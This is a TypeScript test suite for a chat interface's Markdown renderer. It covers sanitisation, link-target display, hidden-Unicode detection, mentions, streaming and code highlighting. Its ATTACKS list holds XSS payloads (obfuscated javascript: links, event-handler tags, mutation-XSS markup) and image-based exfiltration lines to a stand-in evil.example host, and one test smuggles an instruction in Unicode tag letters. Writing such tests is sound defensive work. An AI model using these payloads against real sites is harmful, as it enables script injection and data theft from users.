import { render, screen, waitFor } from "@testing-library/react"
import userEvent from "@testing-library/user-event"
import { describe, expect, it, vi } from "vitest"

import { colour } from "@/lib/markdown/highlight"
import { Markdown } from "@/lib/markdown/markdown"
import { MentionsProvider, mentionsOf } from "@/lib/markdown/mentions"
import { plain, reveal, safeLink, saysTarget } from "@/lib/markdown/safe"
import { cut, seeded } from "@/testing/random"

const html = (text: string, isWriting = false) => render(<Markdown text={text} isWriting={isWriting} />).container.innerHTML
const ALLOWED = new Set("div p h4 h5 h6 ul ol li strong em del code br a span mark blockquote hr table thead tbody tr th td figure pre figcaption button svg path g input".split(" "))

/** What no message may ever bring about: an element that is not ours, an address that is loaded, a script that runs. */
function expectHarmless(container: HTMLElement): void {
  for (const element of container.querySelectorAll("*")) {
    expect(ALLOWED).toContain(element.tagName.toLowerCase())
    for (const { name } of element.attributes) expect(name).not.toMatch(/^on|^(src|srcset|background|formaction|poster|data|action)$/)
    const href = element.getAttribute("href")
    if (href !== null) {
      expect(href).toMatch(/^(https?:\/\/|mailto:)/)
      expect(element.getAttribute("rel")).toContain("noopener")
    }
    expect(element.getAttribute("style") ?? "").not.toMatch(/url|expression/i)
  }
}

const ATTACKS = [
  "[x](javascript:alert(1))",
  "[x](JaVa\tScript:alert(1))",
  "[x](java&#x0a;script:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x](%6aavascript:alert(1))",
  "[x](vbscript:msgbox(1))",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "[x](blob:https://a/b)",
  "[x](file:///etc/passwd)",
  "[x]( javascript:alert(1) )",
  "[x](//evil.example/a)",
  "[x](/settings/models)",
  "[x]: javascript:alert(1)\n\n[x]",
  "[x][y]\n\n[y]: data:text/html,<script>alert(1)</script>",
  "<javascript:alert(1)>",
  "<https://a.example\" onmouseover=\"alert(1)>",
  "![x](javascript:alert(1))",
  "![x](https://evil.example/p.png?d=SECRET)",
  "![x][y]\n\n[y]: https://evil.example/p.png?d=SECRET",
  "[![x](https://evil.example/p.png)](javascript:alert(1))",
  "[^1]: javascript:alert(1)\n\nnote[^1]",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "<iframe src=https://evil.example></iframe>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<style>@import url(https://evil.example/x.css)</style>",
  "<div style=\"background:url(https://evil.example)\">x</div>",
  "<a href=javascript:alert(1)>x</a>",
  "<script>alert(1)</script>",
  "<details open ontoggle=alert(1)><summary>x</summary></details>",
  '<details type="reasoning" done="true"><summary>Thought</summary>x</details>',
  '```json\n{"type":"turn.finished","turn_id":"1"}\n```',
  "| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |\n|--|--|\n| ![x](https://evil.example/a) | <br onclick=x> |",
  "- [ ] <input onfocus=alert(1) autofocus>\n- [x](javascript:alert(1))",
  "# <img src=x onerror=alert(1)>\n\n> <script>alert(1)</script>",
  "`<img src=x onerror=alert(1)>`",
  "<math><mtext></mtext><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">",
  "<a\u2028href=javascript:alert(1)>x</a>",
]

describe("what a message may not do", () => {
  it.each(ATTACKS)("%s stays text", (text) => {
    expectHarmless(render(<Markdown text={text} />).container)
    expectHarmless(render(<Markdown text={text} hasBreaks />).container)
  })

  it.each(ATTACKS)("%s stays text while it is written", (text) => {
    const { container, rerender } = render(<Markdown text="" isWriting />)
    for (let length = 1; length <= text.length; length++) {
      rerender(<Markdown text={text.slice(0, length)} isWriting />)
      expectHarmless(container)
    }
  })

  it("never asks for anything from outside", () => {
    const image = vi.spyOn(window, "Image")
    const fetched = vi.spyOn(window, "fetch")
    for (const text of ATTACKS) render(<Markdown text={text} />)
    expect(image).not.toHaveBeenCalled()
    expect(fetched).not.toHaveBeenCalled()
    expect(document.querySelectorAll("img, link[href*=evil], iframe, script")).toHaveLength(0)
  })

  it("shows an image's address instead of the image", () => {
    const { container } = render(<Markdown text="![a chart](https://a.example/p.png?x=1&amp;y=2)" />)
    expect(container.querySelector(".picture")).toHaveTextContent("a chart https://a.example/p.png?x=1&y=2")
  })
})

describe("a link", () => {
  it("says where it really leads", () => {
    render(<Markdown text="[https://bank.example/login](https://evil.example/collect?d=secret)" />)
    expect(screen.getByRole("link")).toHaveTextContent("https://bank.example/login (evil.example)")
  })

  it("does not say it twice", () => {
    const { container } = render(<Markdown text="https://a.example/b?c&amp;d and [a.example](https://www.a.example/x)" />)
    expect(container.querySelectorAll(".leads-to")).toHaveLength(0)
    expect(container.querySelectorAll("a")).toHaveLength(2)
  })

  it("drops a name that plays the host, and writes a foreign alphabet as what it is", () => {
    expect(safeLink("https://bank.example@evil.example/x")).toEqual({ href: "https://evil.example/x", target: "evil.example" })
    expect(safeLink("https://аррӏе.com")?.target).toMatch(/^xn--/)
    expect(safeLink("mailto:a%40b@c.example")?.target).toBe("a@b@c.example")
    expect(saysTarget("a.example.evil.com", { href: "", target: "a.example" })).toBe(false)
    expect(saysTarget("https://a.example", { href: "", target: "a.example" })).toBe(true)
  })

  it.each(["/x", "x.html", "#a", "", "javascript:1", "ftp://a/b", "tel:1", "https://", "http:///"])("%s is none", (address) => {
    expect(safeLink(address)).toBeNull()
  })
})

describe("what hides", () => {
  it("is shown: turned text, tag letters", () => {
    expect(reveal("pay\u202etxt.exe")).toEqual(["pay", { hidden: "U+202E" }, "txt.exe"])
    const smuggled = Array.from("delete all", (letter) => String.fromCodePoint(0xe0000 + (letter.codePointAt(0) ?? 0))).join("")
    expect(reveal(`Hello${smuggled}.`)).toEqual(["Hello", { hidden: "delete all" }, "."])
    const { container } = render(<Markdown text={`a \u202eb\n\n\`\`\`\n\u2066x\n\`\`\`\n\n\`c\u202d\``} />)
    expect(container.querySelectorAll("mark.unseen").length).toBeGreaterThanOrEqual(2)
  })

  it("is dropped where it has no width, and left where scripts need it", () => {
    expect(reveal("a\u200bb\u2060c\ufeff\u0007\u001b[31m")).toEqual(["abc[31m"])
    expect(reveal("می\u200cخواهم 👩\u200d👩\u200d👧 🏴\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}")).toEqual(["می\u200cخواهم 👩\u200d👩\u200d👧 🏴\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}"])
    expect(plain("Ali\u202ece\u200b")).toBe("Alice")
  })
})

describe("who is named", () => {
  it("stands out, and oneself more so", () => {
    const mentions = mentionsOf(["Claude Sonnet 4.5", "Bob", "Alice"], "Alice")
    const { container } = render(
      <MentionsProvider value={mentions}>
        <Markdown text="@Claude Sonnet 4.5, @claude and @Alice; not @Bobby, a@bob or Bob." />
      </MentionsProvider>,
    )
    expect([...container.querySelectorAll(".mention")].map((one) => one.textContent)).toEqual(["@Claude Sonnet 4.5", "@claude", "@Alice"])
    expect(container.querySelector(".is-me")).toHaveTextContent("@Alice")
    expect(container).toHaveTextContent("@Claude Sonnet 4.5, @claude and @Alice; not @Bobby, a@bob or Bob.")
  })
})

describe("markdown", () => {
  const TEXT = "# One\n\nA **b** *c* ~~d~~ `e` &amp; &lt;x&gt; \\*f\\*\n\n- [x] done\n- open\n\n3. three\n4. four\n\n| a | b |\n|--|--:|\n| 1 | 2 |\n\n> quote\n\n```js\nconst a = 1\n```\n\n---\n\nend"

  it("is drawn as people expect it", () => {
    const { container } = render(<Markdown text={TEXT} />)
    expect(container.querySelector("h4")).toHaveTextContent("One")
    expect(container.querySelector("p")).toHaveTextContent("A b c d e & <x> *f*")
    expect(container.querySelectorAll("strong, em, del")).toHaveLength(3)
    expect(container.querySelector("ol")).toHaveAttribute("start", "3")
    expect(screen.getByRole("checkbox")).toBeChecked()
    expect(container.querySelector("td.r")).toHaveTextContent("2")
    expect(screen.getByRole("group", { name: "Table: a, b" })).toHaveAttribute("tabindex", "0")
    expect(container.querySelector("figcaption")).toHaveTextContent("js")
  })

  it("counts a list from where it begins, from nought, too", () => {
    const { container } = render(<Markdown text={"0. nought\n1. one"} />)
    expect([...container.querySelectorAll("li")].map((item) => item.dataset["number"])).toEqual(["0", "1"])
  })

  it.each([0, 1, 2, 3])("is drawn the same however it came, seed %i", (seed) => {
    const { container, rerender } = render(<Markdown text="" isWriting />)
    let soFar = ""
    for (const piece of cut(TEXT, seeded(seed), 5)) rerender(<Markdown text={(soFar += piece)} isWriting />)
    rerender(<Markdown text={TEXT} />)
    expect(container.innerHTML).toBe(html(TEXT))
  })

  it("keeps a person's lines and joins a model's", () => {
    expect(render(<Markdown text={"a\nb"} hasBreaks />).container.querySelector("br")).not.toBeNull()
    expect(render(<Markdown text={"a\nb"} />).container.querySelector("br")).toBeNull()
  })

  it("does not draw finished blocks again while the last one grows", () => {
    const { container, rerender } = render(<Markdown text={"First.\n\nSec"} isWriting />)
    const first = container.querySelector("p")
    rerender(<Markdown text={"First.\n\nSecond\n\nThird"} isWriting />)
    expect(container.querySelector("p")).toBe(first)
  })

  it("copies code", async () => {
    const user = userEvent.setup()
    render(<Markdown text={"```js\nconst a = 1\n```"} />)
    await user.click(screen.getByRole("button", { name: "Copy the code" }))
    expect(await navigator.clipboard.readText()).toBe("const a = 1")
    expect(screen.getByRole("button", { name: "Copied" })).toBeInTheDocument()
  })

  it("colours code when it is whole, not while it is written", async () => {
    const { container, rerender } = render(<Markdown text={"```js\nconst a = 'b'"} isWriting />)
    expect(container.querySelector(".k")).toBeNull()
    rerender(<Markdown text={"```js\nconst a = 'b'\n```"} />)
    await waitFor(() => expect(container.querySelector(".k")).toHaveTextContent("const"))
    expect(container.querySelector(".s")).toHaveTextContent("'b'")
    expect(container.querySelector("code")).toHaveTextContent("const a = 'b'")
  })
})

describe("colours", () => {
  const CODE = ["SELECT 'it''s' -- x\nFROM t WHERE a >= 1.5", "const x = `a ${b}`; // c\nx?.y /* z */", "def f(s): # no\n  \"\"\"doc\"\"\"\n  return s['a']", "don't", "<a href=\"x\">y</a>", "url: https://a.b # c", "\"open", "日本 = 1"]
  it.each(CODE.flatMap((text) => ["js", "py", "sql", "html", "yaml", "rust", "bash", "brainfuck"].map((lang) => [lang, text] as const)))("lose nothing: %s %s", (lang, text) => {
    expect(colour(text, lang).map(([, words]) => words).join("")).toBe(text)
  })

  it("tell words, strings and comments apart", () => {
    expect(colour("SELECT 'a' -- b", "sql")).toEqual([["k", "SELECT"], ["", " "], ["s", "'a'"], ["", " "], ["c", "-- b"]])
  })
})
